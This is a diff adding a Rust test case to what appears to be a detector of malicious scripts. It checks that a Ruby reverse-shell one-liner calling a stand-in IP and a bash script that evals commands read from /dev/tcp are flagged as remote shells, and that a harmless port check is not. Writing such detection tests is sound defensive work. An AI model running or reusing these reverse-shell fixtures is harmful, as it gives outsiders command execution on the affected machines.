@@ -294,3 +294,16 @@ fn a_watchdog_program_that_puts_a_site_file_back_read_only_is_found() {
         assert!(whys(src).is_empty(), "{src}: {:?}", whys(src));
     }
 }
+
+#[test]
+fn a_ruby_shell_and_a_bash_shell_on_a_handle_of_its_own_are_found() {
+    // fresh95's Ruby one-liner and RealzCode's `bc.sh`: the connection opened on bash's
+    // handle 3, each line read from it given to `eval`.
+    let ruby = "f=TCPSocket.open(\"198.51.100.9\",1234).to_i;\nexec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)\n";
+    assert_eq!(whys(ruby), [Why::RemoteShell]);
+    let bash = "#!/bin/bash\nexec 3<> /dev/tcp/\"$ip\"/\"$po\"\nwhile IFS= read -r -u 3 -p \"$ \"; do\n  out=$(eval \"$REPLY\")\n  echo \"$out\" >&3\ndone\n";
+    assert_eq!(whys(bash), [Why::RemoteShell]);
+    // A port check opens one and reads the answer, and runs nothing it reads.
+    let check = "#!/bin/bash\nexec 3<> /dev/tcp/example.org/80\necho -e \"HEAD / HTTP/1.0\\r\\n\" >&3\nread -r -u 3 status\necho \"$status\"\n";
+    assert!(whys(check).is_empty(), "{:?}", whys(check));
+}
